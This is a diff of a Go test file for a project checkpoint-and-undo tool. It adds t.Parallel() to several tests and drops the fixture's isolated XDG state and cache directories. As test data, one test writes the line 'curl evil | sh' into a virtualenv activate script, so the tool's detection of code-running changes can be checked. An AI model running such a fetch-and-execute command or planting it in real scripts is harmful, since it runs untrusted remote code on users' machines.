@@ -18,8 +18,6 @@ import (
 // state dir of its own.
 func inPlaceFixture(t *testing.T) (*Project, *inPlaceCheckpoint, *[]string) {
 	t.Helper()
-	t.Setenv("XDG_STATE_HOME", t.TempDir())
-	t.Setenv("XDG_CACHE_HOME", t.TempDir())
 	root := t.TempDir()
 	for name, body := range map[string]string{
 		"main.go": "package main\n", ".gitignore": ".venv/\n", ".venv/pyvenv.cfg": "home = /usr/bin\n",
@@ -53,6 +51,8 @@ func writeTestFile(t *testing.T, path, body string) {
 // A run that changes only an ignored virtualenv script is reported, the
 // script flagged as running code later; never "no files changed".
 func TestInPlaceReportSeesIgnoredFiles(t *testing.T) {
+	t.Parallel()
+
 	p, c, _ := inPlaceFixture(t)
 	writeTestFile(t, filepath.Join(p.Root, ".venv/bin/activate"), "curl evil | sh\n")
 	changes, after, err := c.end(noEmit)
@@ -72,6 +72,8 @@ func TestInPlaceReportSeesIgnoredFiles(t *testing.T) {
 // person changed since; the run stays undoable, --force puts that back,
 // and the undo is itself undoable.
 func TestUndoRefusesThenForcesThenUndoesTheUndo(t *testing.T) {
+	t.Parallel()
+
 	p, c, _ := inPlaceFixture(t)
 	id := c.rec.ID
 	root := p.Root
@@ -130,6 +132,8 @@ func TestUndoRefusesThenForcesThenUndoesTheUndo(t *testing.T) {
 
 // What the policy may ask: is a path covered by the checkpoint?
 func TestCheckpointCovers(t *testing.T) {
+	t.Parallel()
+
 	p, c, said := inPlaceFixture(t)
 	big := strings.Repeat("x", int(checkpointLimitsForTest.MaxFileBytes)+1)
 	writeTestFile(t, filepath.Join(p.Root, "data/big.bin"), big)
@@ -156,6 +160,8 @@ var checkpointLimitsForTest = checkpoint.Limits{MaxFileBytes: 1024}
 // person's later changes from its own: undo refuses, saying --force, which
 // puts back everything that differs from the checkpoint.
 func TestUndoOfAKilledRunNeedsForce(t *testing.T) {
+	t.Parallel()
+
 	p, c, _ := inPlaceFixture(t)
 	writeTestFile(t, filepath.Join(p.Root, "main.go"), "package main // the run, then killed\n")
 	_, err := Undo(context.Background(), p, "", UndoOptions{})
@@ -175,6 +181,8 @@ func TestUndoOfAKilledRunNeedsForce(t *testing.T) {
 // deleting uncommitted work is allowed as undoable; with a file left out by
 // the size bound (or in a copy, or with no checkpoint) it asks.
 func TestInPlacePolicyKnowsItsCheckpoint(t *testing.T) {
+	t.Parallel()
+
 	p, c, said := inPlaceFixture(t)
 	eng, err := policy.Load()
 	if err != nil {
